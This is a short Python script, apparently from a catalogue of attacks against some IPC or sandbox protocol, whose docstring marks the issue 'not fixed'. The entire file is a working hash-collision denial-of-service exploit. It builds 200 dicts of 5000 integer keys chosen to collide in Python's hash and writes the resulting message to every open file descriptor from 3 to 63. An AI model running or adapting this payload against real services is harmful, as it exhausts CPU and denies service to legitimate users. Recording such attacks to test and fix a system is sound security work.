"""Sends as many dicts of colliding keys as fit into a message, each as large as it may be.

verdict: not fixed
because: CPU time
"""

import os
import struct

keys = b"".join(b"I\x0a\0\0\0" + (number * (2**61 - 1)).to_bytes(10, "little") + b"N" for number in range(5000))
dicts = b"l" + struct.pack("<I", 200) + 200 * (b"m" + struct.pack("<I", 5000) + keys)
message = b"t\3\0\0\0s\5\0\0\0value" + dicts + b"t\0\0\0\0"
for descriptor in range(3, 64):
    try:
        data = memoryview(struct.pack("<I", len(message)) + message)
        while data:
            data = data[os.write(descriptor, data) :]
    except OSError:
        pass
